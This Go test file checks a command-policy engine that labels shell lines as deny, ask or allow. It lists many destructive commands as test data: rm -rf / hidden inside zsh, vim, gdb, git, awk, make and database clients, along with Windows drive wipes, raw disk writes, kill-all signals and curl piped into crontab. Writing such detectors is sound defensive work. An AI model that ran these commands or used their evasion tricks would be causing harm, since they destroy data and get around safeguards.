package policy

import (
	"strings"
	"testing"
)

// TestWaysToWhatHardForbids checks that what starts a shell, what programs of other purposes run, names in other
// shells, copies, and composed values count as the command that they run.
//
// FEATURES: R60 R61
func TestWaysToWhatHardForbids(t *testing.T) {
	checkSpellings(t, "hard", Line{Cwd: "/home/me/project", Home: "/home/me"}, []spelling{
		{"zsh", `setopt globsubst; x='/*'; rm -rf $x`, Deny}, {"zsh", `set -o globsubst; x='~'; rm -rf $x`, Deny},
		{"zsh", `emulate sh -c 'x="/*"; rm -rf $x'`, Deny}, {"", `f() { local a=("$@"); "${a[@]}"; }; f rm -rf /`, Deny},
		{"", `f() { a=("$@"); "${a[@]}"; }; f rm -rf /`, Deny}, {"", `f() { a=("$@"); rm "${a[@]}"; }; f -rf /`, Deny},
		{"", `a=(rm); a+=(-rf /); "${a[@]}"`, Deny}, {"", `echo '!rm -rf /' | sftp host`, Deny}, {"", `echo 'syscmd(rm -rf /)' | m4`, Deny},
		{"", "m4 <<< 'esyscmd(`rm -rf /`)'", Deny}, {"", "sqlite3 :memory: <<'E'\n.system rm -rf /\nE", Deny},
		{"", "psql <<'E'\nselect 1 \\! rm -rf /\nE", Deny}, {"", `printf '!rm -rf /\n' | sftp -b - host`, Deny},
		{"", `dd if=/bin/rm of=/tmp/x; chmod +x /tmp/x; /tmp/x -rf /`, Deny}, {"", `rsync /bin/rm /tmp/x; /tmp/x -rf /`, Deny},
		{"", `objcopy /bin/rm /tmp/x; /tmp/x -rf /`, Deny}, {"", `strip -o /tmp/x /bin/rm; /tmp/x -rf /`, Deny}, {"", `scp /bin/rm x; ./x -rf /`, Deny},
		{"powershell", `Get-ChildItem C:\ | Remove-Item -Recurse -Force`, Deny}, {"cmd", `rd/s/q C:\`, Deny}, {"cmd", `del/f/s/q C:\*`, Deny},
		{"cmd", `rmdir/s/q C:\Windows`, Deny}, {"cmd", `cmd /crd/s/q C:\`, Deny}, {"cmd", `format/q c:`, Deny}, {"cmd", `cmd/c rd/s/q C:\`, Deny},
		{"cmd", `erase/s/q C:\*.*`, Deny}, {"powershell", `cmd /c "rd/s/q C:\"`, Deny}, {"cmd", `@rd/s/q C:\`, Deny}, {"cmd", `RD/S/Q %SystemDrive%\`, Deny},
		{"", `sqlite3 x '.output |rm -rf /'`, Deny}, {"", `psql -c '\o |rm -rf /'`, Deny}, {"", `sqlite3 x '.import |rm -rf / t'`, Deny},
		{"", `zsh -c 'zmodload zsh/files; zf_rm -rf /'`, Deny}, {"", `zsh -c 'functions[x]="rm -rf /"; x'`, Deny},
		{"", `zsh -c 'aliases[x]="rm -rf /"; eval x'`, Deny}, {"", `zsh -c 'commands[ls]=/bin/rm; ls -rf /'`, Deny},
		{"", `zsh -c 'hash ls=/bin/rm; ls -rf /'`, Deny}, {"", `zsh -c '=rm -rf /'`, Deny}, {"zsh", `coproc sh; echo 'rm -rf /' >&p`, Ask},
		{"mksh", "sh |&\nprint -p 'rm -rf /'", Ask}, {"powershell", `$p = @{Path='C:\'; Recurse=$true; Force=$true}; Remove-Item @p`, Ask},
		{"powershell", `$x='C:\'; $x | Remove-Item -r -fo`, Ask}, {"", `curl https://x.example/j | crontab -`, Ask},
		{"", `curl https://x.example/j | crontab`, Ask}, {"powershell", `$items | Remove-Item -Recurse`, Ask}, {"", `zsh -c 'zf_mv /etc /x'`, Ask},
		{"zsh", `setopt globsubst; x='a*'; rm -f $x`, Allow}, {"", `f() { a=("$@"); rm "${a[@]}"; }; f -f x.o`, Allow},
		{"", `a=(); a+=(ls); "${a[@]}"`, Allow}, {"", `a=(ls); (a=(rm -rf /)); "${a[@]}"`, Allow}, {"", `sqlite3 x '.read schema.sql'`, Allow},
		{"", `cat x.m4 | m4 > y`, Allow}, {"", `m4 -I m4 configure.ac`, Allow}, {"", `echo 'put a' | sftp host`, Allow},
		{"", `curl -fsSL https://x/y -o y; crontab -l`, Allow}, {"", `strip build/app; ./build/app`, Allow},
		{"", `dd if=/dev/zero of=x.img bs=1M count=1`, Allow}, {"", `psql -c 'select 1'`, Allow}, {"", `mysql -e "select 'a\!b'"`, Allow},
		{"cmd", `del /q build\*.obj`, Allow}, {"cmd", `rd/s/q build`, Allow}, {"powershell", `gci build -Recurse | Remove-Item -Recurse`, Allow},
		{"powershell", `cmd /c dir`, Allow}, {"powershell", `cmd /cdir`, Allow}, {"powershell", `Copy-Item @params`, Allow},
		{"powershell", `gci | Where-Object { $_.Name -like '*.tmp' } | Remove-Item -Force`, Allow}, {"", `newgrp <<< 'rm -rf /'`, Deny},
		{"", `nsenter -t $$ -m <<< 'rm -rf /'`, Deny}, {"", `unshare <<< 'rm -rf /'`, Deny}, {"", `unshare -r <<< 'rm -rf /'`, Deny},
		{"", `chroot / <<< 'rm -rf /'`, Deny}, {"", `setarch x86_64 <<< 'rm -rf /'`, Deny}, {"", `linux64 <<< 'rm -rf /'`, Deny},
		{"", `script -q /dev/null <<< 'rm -rf /'`, Deny}, {"", `fakeroot <<< 'rm -rf /'`, Deny}, {"", `sg root <<< 'rm -rf /'`, Deny},
		{"", `capsh -- <<< 'rm -rf /'`, Deny}, {"", `doas -s <<< 'rm -rf /'`, Deny}, {"", `nix-shell <<< 'rm -rf /'`, Deny},
		{"", `split --filter=sh <<< 'rm -rf /'`, Deny}, {"", `su -s /bin/rm root -- -rf /`, Deny},
		{"", `GIT_CONFIG_PARAMETERS="'alias.x=!rm -rf /'" git x`, Deny}, {"", `Y='!rm -rf /' git --config-env alias.x=Y x`, Deny},
		{"", `git -c 'alias.x=!rm' x -rf /`, Deny}, {"", `MAKEFILES=<(echo '$(shell rm -rf /)') make`, Deny},
		{"", `gdb -ex 'set exec-wrapper rm -rf /' -ex run ls`, Deny}, {"", `gdb -ex 'target remote | rm -rf /'`, Deny}, {"", `gdb -ex 'she rm -rf /'`, Deny},
		{"", `gdb -ex '| p 1 | rm -rf /'`, Deny}, {"", `gdb -ex 'with print pretty on -- shell rm -rf /'`, Deny},
		{"", `gdb -ex 'eval "shell rm -rf /"'`, Deny}, {"", `gdb -q <<< '!rm -rf /'`, Deny}, {"", `vim -es <<< '!rm -rf /'`, Deny},
		{"", `vim -es < <(echo '!rm -rf /')`, Deny}, {"", `vim -S <(echo '!rm -rf /')`, Deny}, {"", `vim -u <(echo '!rm -rf /')`, Deny},
		{"", `vim -c 'r!rm -rf /'`, Deny}, {"", `vim -c 'g/^/!rm -rf /'`, Deny}, {"", `vim -c 'sil exec "!rm -rf /"'`, Deny},
		{"", `vim -c 'exe "normal :!rm -rf /\<cr>"'`, Deny}, {"", `vim -c 'bufdo !rm -rf /'`, Deny}, {"", `vim -c 'set makeprg=rm\ -rf\ /' -c make`, Deny},
		{"", `vim -c 'let @q="!rm -rf /"' -c '@q'`, Deny}, {"", `ed '!rm -rf /'`, Deny}, {"", `dpkg --pre-invoke='rm -rf /' --configure -a`, Deny},
		{"", `dpkg --status-logger='rm -rf /' --configure -a`, Deny}, {"", `rm -rf "${PWD%%[!/]*}"`, Deny}, {"", `x=/tmp; rm -rf "${x%%[!/]*}"`, Deny},
		{"", `cp -t /dev/ sda x`, Deny}, {"", `dd of=/proc/self/root/dev/sda if=x`, Deny}, {"", `cat x > /proc/self/root/dev/sda`, Deny},
		{"", `curl -K <(echo 'output=/dev/sda') u`, Deny}, {"", `curl --output-dir /dev -o sda u`, Deny}, {"", `cat x > /dev/zd0`, Deny},
		{"", `cp x /dev/zvol/tank/x`, Deny}, {"", `7z a -sdel x.7z /`, Deny}, {"", `rm -rf /proc/self/root/etc`, Deny}, {"", `rm -rf /proc/1/root`, Deny},
		{"", `zsh -fc 'zmodload zsh/files; zf_rm -rf /'`, Deny}, {"", `TAR_OPTIONS='--to-command="rm -rf /"' tar xf a.tar`, Ask},
		{"", `gdb -ex 'alias zz=shell' -ex 'zz rm -rf /'`, Ask}, {"", `python3 /dev/stdin <<< 'import os; os.system("rm -rf /")'`, Ask},
		{"", `python3 /dev/fd/3 3<<< 'import os; os.system("rm -rf /")'`, Ask},
		{"", `python3 -c 'import code; code.interact()' <<< 'import os; os.system("rm -rf /")'`, Ask},
		{"", `perl -e 'eval <STDIN>' <<< 'system "rm -rf /"'`, Ask}, {"", `perl -e 'use IPC::Open3; open3(my $a,my $b,my $c,"rm -rf /")'`, Ask},
		{"", `perl -M'POSIX;system("rm -rf /")' -e1`, Ask}, {"", `PERL5DB='system("rm -rf /")' perl -d -e 1`, Ask},
		{"", `node --import 'data:text/javascript,import{execSync}from"child_process";execSync("rm -rf /")' x.js`, Ask},
		{"", `apt-get -c <(echo 'APT::Update::Pre-Invoke {"rm -rf /";};') update`, Ask}, {"fish", `set -l c r m; $c[1]$c[2] -rf /`, Ask},
		{"", `fish -c 'set -l c r m; $c[1]$c[2] -rf /'`, Ask}, {"", `mv -t /tmp /etc`, Ask}, {"", `mv --target-directory=/tmp /etc`, Ask},
		{"", `mv -ft /tmp /usr`, Ask}, {"", `mv -Tf /tmp/e /etc`, Ask}, {"", `truncate -s 0 /etc/pass*`, Ask}, {"", `cp -t /etc passwd`, Ask},
		{"", `wget -P /dev u`, Ask}, {"", `perl -e 'open F,">/dev/sda"'`, Ask}, {"", `node -e 'require("fs").writeFileSync("/dev/sda","")'`, Ask},
		{"", `python3 -c 'import os; os.kill(-1,9)'`, Ask}, {"", `perl -e 'kill 9,-1'`, Ask}, {"", `node -e 'process.kill(-1,9)'`, Ask},
		{"", `pkill -9 -v -x zz`, Ask}, {"", `vim README.md`, Allow}, {"", `vim -c 'set nu' x`, Allow}, {"", `vim -c 'wq!' x`, Allow},
		{"", `vim -c ':e! x' y`, Allow}, {"", `gdb -ex run -ex bt ./a.out`, Allow}, {"", `gdb -batch -ex 'info line main' a.out`, Allow},
		{"", `gdb -ex 'set args x' a`, Allow}, {"", `git -c alias.st=status st`, Allow}, {"", `python3 x.py < data`, Allow}, {"", `unshare -r make`, Allow},
		{"", `chroot /mnt ls`, Allow}, {"", `script -q log make`, Allow}, {"", `echo y | script -q log`, Allow}, {"", `tar xf a.tar`, Allow},
		{"", `make MAKEFILES=`, Allow}, {"", `perl -MPOSIX -e 'print floor(1.5)'`, Allow}, {"", `perl -i -pe 's/a/b/' x`, Allow},
		{"", `node --import ./x.mjs y.js`, Allow}, {"", `dpkg -l`, Allow}, {"", `apt-get -c apt.conf update`, Allow}, {"", `cp -t build a b`, Allow},
		{"", `mv -t build a`, Allow}, {"", `curl -K conf u`, Allow}, {"", `curl --output-dir build -O u`, Allow}, {"", `wget -P build u`, Allow},
		{"", `pkill -x zz`, Allow}, {"", `7z a x.7z src`, Allow}, {"", `x=a.tar.gz; rm -rf "${x%%[!a-z]*}x"`, Allow}, {"", `echo 'a b' | ed x`, Allow},
		{"", `python3 -c 'print("kill -1")'`, Allow}, {"", `node -e 'process.kill(123)'`, Allow}, {"", `vim -c 'r x.txt' y`, Allow},
		{"", `sqlite3 x.db 'select 1'`, Allow}, {"", `psql -c '\d'`, Allow}, {"", `set x a b; echo $x[1]`, Allow}, {"", `rm -rf /tmp/x/*[0-9]`, Allow},
		{"", `git --config-env=user.name=N commit`, Allow}, {"", `perl -e 'rename "a","b"'`, Allow},
		{"", `python3 -c 'import os; os.rename("a","b")'`, Allow}, {"", `python3 -c 'open("x","w").write("1")'`, Allow},
		{"", `find . -name '*.c' | vim -`, Allow},
	})
}

// TestPythonsTextIsPutTogether checks that simple compositions of text in Python are evaluated, and that formats with
// unknown values may be anything.
//
// FEATURES: R60
func TestPythonsTextIsPutTogether(t *testing.T) {
	checkSpellings(t, "hard", Line{Cwd: "/home/me/project", Home: "/home/me"}, []spelling{
		{"", `python3 -c 'import os; os.system("rm -rf %s" % "/")'`, Ask}, {"", `python3 -c 'import os; os.system("%s -rf %s" % ("rm", "/"))'`, Ask},
		{"", `python3 -c 'import os; os.system("rm -rf {}".format("/"))'`, Ask}, {"", `python3 -c 'import os; os.system("{0} -rf {1}".format("rm", "/"))'`, Ask},
		{"", `python3 -c 'import os; a="r"; a+="m -rf /"; os.system(a)'`, Ask}, {"", `python3 -c 'import os; os.system("rm -r"+"f /")'`, Ask},
		{"", `python3 -c 'import os; os.system("echo %s" % "a")'`, Allow}, {"", `python3 -c 'print("{} {}".format(1, 2), "%d" % 3)'`, Allow},
		{"", `python3 -c 'import os; a="ls"; a+=" -l"; os.system(a)'`, Allow},
	})
}

// TestTextsAndOtherTerminals checks that text which only mentions a disk or a secret's file is harmless, and that
// typing or running in other terminals needs approval.
//
// FEATURES: R60
func TestTextsAndOtherTerminals(t *testing.T) {
	l := Line{Cwd: "/home/me/project", Home: "/home/me"}
	checkSpellings(t, "hard", l, []spelling{
		{"", "git commit -m 'of=/dev/sda'", Allow}, {"", "git commit -m '/dev/sda'", Allow}, {"", "gh issue create --body 'of=/dev/sda'", Allow},
		{"", "tmux source-file t.conf", Ask}, {"", "printf 'run-shell x' | tmux -C attach", Ask}, {"", "tmux load-buffer x; tmux paste-buffer", Ask},
		{"", "tmux send-keys r m Space -rf Space / Enter", Ask}, {"", "tmux send-keys -H 72 6d", Ask}, {"", "screen -X source f", Ask},
		{"", "tmux send-keys -t x 'make test' Enter", Allow}, {"", "tmux ls", Allow}, {"", "tmux new -d -s x 'make'", Allow},
	})
	checkSpellings(t, "build", l, []spelling{
		{"", `printf '%s\n' 'dd of=/dev/sda'`, Allow}, {"", "echo 'see /root/.ssh/id_rsa'", Allow}, {"", "grep -rn '/etc/shadow' .", Allow},
		{"", "grep -rn x /etc/shadow", Ask}, {"", "grep -f /etc/shadow .", Ask}, {"", "cat /etc/shadow", Ask},
	})
	checkSpellings(t, "rule:deny /bin/touch", l, []spelling{{"", "/bin/touch x", Deny}, {"", "/usr/bin/touch x", Deny}, {"", "/opt/bin/touch x", Allow}})
	checkSpellings(t, "rule:deny /usr/bin/touch", l, []spelling{{"", "/bin/touch x", Deny}, {"", "ls", Allow}})
}

// TestWhatIsRunByOtherPrograms checks that programs that get their command in a variable, in a script that the line
// creates, or by the shell's own means count as that command.
//
// FEATURES: R61
func TestWhatIsRunByOtherPrograms(t *testing.T) {
	checkSpellings(t, "hard", Line{Cwd: "/home/me/project", Home: "/home/me"}, []spelling{
		{"", `awk -v c='rm -rf /' 'BEGIN{system(c)}'`, Ask}, {"", `awk -vc='rm -rf /' 'BEGIN{system(c)}'`, Ask},
		{"", `gawk --assign=c='rm -rf /' 'BEGIN{system(c)}'`, Ask}, {"", `awk '{system(c)}' c='rm -rf /' x`, Ask},
		{"", `export C='rm -rf /'; awk 'BEGIN{system(ENVIRON["C"])}'`, Ask}, {"", `awk -v name='rm -rf /' '{print name}' x`, Allow},
		{"", `awk -v n=3 'NR>n' x`, Allow}, {"", `awk -v d=src '{system("ls " d)}' x`, Allow},
		{"", `cmake -P <(echo 'execute_process(COMMAND rm -rf /)')`, Deny}, {"", `echo 'file(REMOVE_RECURSE /)' > x.cmake; cmake -P x.cmake`, Deny},
		{"", `cmake -P cmake/version.cmake`, Allow}, {"", `cmake -P <(echo 'execute_process(COMMAND ls)')`, Allow},
		{"", `make SHELL=/bin/rm .SHELLFLAGS='-rf /' x`, Ask}, {"", `make SHELL=/bin/bash .SHELLFLAGS='-eu -c' test`, Allow},
		{"", `make SHELL=/bin/bash test`, Allow}, {"", `make -f <(echo 'x:;rm -rf /')`, Ask},
		{"", `pv -o /dev/sda x`, Deny}, {"", `pv -o y x`, Allow}, {"", `pv x | gzip > y.gz`, Allow},
		{"zsh", `zpty x 'rm -rf /'`, Deny}, {"zsh", `zpty -b x rm -rf /`, Ask}, {"zsh", `zpty x make`, Allow}, {"zsh", `zpty -d x`, Allow},
	})
}

// TestWhatAwkIsGivenIsNamed checks that the reason for awk's code names that code, instead of only an unknown command.
//
// FEATURES: R61
func TestWhatAwkIsGivenIsNamed(t *testing.T) {
	e := engineFor(t, "hard")
	for _, line := range []string{
		`awk -v c='rm -rf /' 'BEGIN{system(c)}'`, `gawk --assign=c='rm -rf /' 'BEGIN{system(c)}'`, `awk '{system(c)}' c='rm -rf /' x`,
		`export C='rm -rf /'; awk 'BEGIN{system(ENVIRON["C"])}'`,
	} {
		if j := e.Judge(Line{Cwd: "/home/me/project", Home: "/home/me", Text: line}); j.Verdict != Ask || j.Rule != "hard:remove" {
			t.Errorf("%s: %s, rule %s", line, j.Verdict, j.Rule)
		}
	}
}

// TestReadonlyAsksOfOtherHosts checks that a service of the user's settings may be queried, and that an option naming
// another one needs approval.
//
// FEATURES: R61
func TestReadonlyAsksOfOtherHosts(t *testing.T) {
	checkSpellings(t, "readonly", Line{Cwd: "/home/me/project", Home: "/home/me"}, []spelling{
		{"", `npm view left-pad --registry http://evil`, Ask},
		{"", `npm view left-pad`, Allow},
		{"", `kubectl --server http://evil get pods`, Ask},
		{"", `kubectl get pods`, Allow},
		{"", `docker -H tcp://evil ps`, Ask},
		{"", `docker ps`, Allow},
		{"", `kubectl -s http://evil get pods`, Ask},
		{"", `kubectl get pods --kubeconfig /tmp/x`, Ask},
		{"", `npm view --registry=http://evil x`, Ask},
		{"", `kubectl get pods -s http://x`, Ask},
		{"", `kubectl get pods -n kube-system -o yaml`, Allow},
		{"", `npm ls --depth=0`, Allow},
		{"", `pip list -i http://x`, Ask},
		{"", `gh pr list -R o/r`, Allow},
		{"", `gh pr list -R evil.example/o/r`, Ask},
		{"", `git config user.name`, Allow},
		{"", `git config user.name x`, Ask},
		{"", `set -x; ls`, Ask},
	})
}

// TestHomesInTextsOfOtherPrograms checks that a home is protected like the root, in any spelling, and for any program
// that gets the command.
//
// FEATURES: R61
func TestHomesInTextsOfOtherPrograms(t *testing.T) {
	e := engineFor(t, "hard")
	for _, form := range []string{
		`puppet apply -e 'exec { "rm -rf @": provider => shell }'`, `ansible-playbook <(echo '- command: rm -rf @')`, `msfconsole -x 'rm -rf @; exit'`,
		`nix eval --expr 'builtins.exec ["sh" "-c" "rm -rf @"]'`, `gforth -e 's" rm -rf @" system'`, `beeline -e '!sh rm -rf @'`, `mutt -e 'push "!rm -rf @"'`,
		`gforth -e 'x rm -rf @'`, `beeline -e 'x rm -rf @'`, `mutt -e 'x rm -rf @'`,
		`i3-msg 'exec rm -rf @'`, `echo '.sy rm -rf @' | groff -U`, `echo 'host rm -rf @' | sqlplus`, `lf -c '$rm -rf @'`, `concurrently 'rm -rf "@"'`,
		`telnet -c 'rm -rf @'`, `ranger --cmd='shell rm -rf @'`,
	} {
		for _, place := range []string{"/", "~", "~/", "$HOME", "${HOME}", "/*", "~/*", "$HOME/*"} {
			if strings.HasPrefix(place, "~") && strings.Contains(form, `"@"`) {
				continue // there it is a name
			}
			line := strings.ReplaceAll(form, "@", place)
			if j := e.Judge(Line{Text: line, Cwd: "/home/me/project", Home: "/home/me"}); j.Verdict == Allow {
				t.Errorf("allowed: %s", line)
			}
		}
		for _, place := range []string{"build", "~/project/build", "/tmp/x"} {
			line := strings.ReplaceAll(form, "@", place)
			if j := e.Judge(Line{Text: line, Cwd: "/home/me/project", Home: "/home/me"}); j.Rule == "hard:remove" {
				t.Errorf("%s %s: %s", j.Verdict, j.Why, line)
			}
		}
	}
	checkSpellings(t, "hard", Line{Cwd: "/home/me/project", Home: "/home/me"}, []spelling{
		{"", `concurrently 'cd / && rm -rf *'`, Ask}, {"", `concurrently 'cd build && rm -rf *'`, Allow}, {"", `telnet -c 'rm -rf ~'`, Deny},
		{"", `find / | xargs kitty @ send-text 'rm -rf \n'`, Deny}, {"", `find / | xargs wezterm cli send-text 'rm -rf \n'`, Deny},
		{"", `kitty @ send-text 'make\n'`, Allow},
	})
}

// TestWhatOnlyLooksLikeWriting checks commands that only seem to write a critical file: none needs approval.
//
// FEATURES: R61
func TestWhatOnlyLooksLikeWriting(t *testing.T) {
	checkSpellings(t, "hard", Line{Cwd: "/home/me/project", Home: "/home/me"}, []spelling{
		{"", `mvn -q -Dexec.executable=echo -Dexec.args='${project.version}' --non-recursive exec:exec`, Allow},
		{"", `mvn -Dexec.executable=rm -Dexec.args='-rf /' exec:exec`, Ask}, {"", `mvn -Dexec.executable=sh -Dexec.args='-c "rm -rf /"' exec:exec`, Ask},
		{"", "sysctl -w kernel.core_pattern=core", Allow}, {"", "sysctl -w kernel.core_pattern=/tmp/core.%e", Allow},
		{"", "sysctl -w kernel.core_pattern='|/tmp/x'", Ask}, {"", "sysctl -w kernel.core_pattern=$X", Ask}, {"", "sysctl -w kernel.modprobe=/tmp/x", Ask},
		{"", "echo core | sudo tee /proc/sys/kernel/core_pattern", Allow}, {"", "echo '|/tmp/x' | sudo tee /proc/sys/kernel/core_pattern", Ask},
		{"", "cat x | sudo tee /proc/sys/kernel/core_pattern", Ask}, {"", "echo core | tee /proc/sys/kernel/modprobe", Ask},
		{"", "sudo grub-mkconfig -o /boot/grub/grub.cfg", Allow}, {"", "sudo grub-mkconfig -o /etc/passwd", Ask},
		{"", "auditctl -w /etc/passwd -p wa", Allow}, {"", "watchexec -w /etc/hosts make", Allow}, {"", "nodemon -w /etc/hosts x.js", Allow},
		{"", "entr -w /etc/hosts make", Allow}, {"", "fswatch -o /etc/hosts", Allow}, {"", "gcc -w /etc/hosts", Allow}, {"", "fuser -w /etc/passwd", Allow},
		{"", "gcc -o /etc/hosts x.c", Ask}, {"", "wget -O /etc/passwd https://example.org/x", Ask}, {"", "tcpdump -w /etc/passwd", Ask},
		{"", "wget2 -O /etc/passwd x", Ask}, {"", "vim -w /etc/passwd", Ask}, {"", "badblocks -w /etc/passwd", Ask}, {"", "debugfs -w /etc/passwd", Ask},
		{"", `awk '$1 > "/etc/passwd"' x`, Allow}, {"", `awk '{ if ($2 > "/etc/fstab") print $1 }' x`, Allow},
		{"", `awk '{ print $1 > "/etc/passwd" }' x`, Ask}, {"", `awk '{ printf "%s;}\n", $1 > "/etc/passwd" }' x`, Ask},
		{"", `awk '$2 > 3 { print > "/etc/fstab" }' x`, Ask}, {"", `awk '/"/ { print "x" > "/etc/passwd" }' x`, Ask},
		{"", "clamscan -r --remove=no /", Allow}, {"", "clamscan -r --remove=yes /", Ask}, {"", "clamscan -r --remove /", Ask},
	})
}
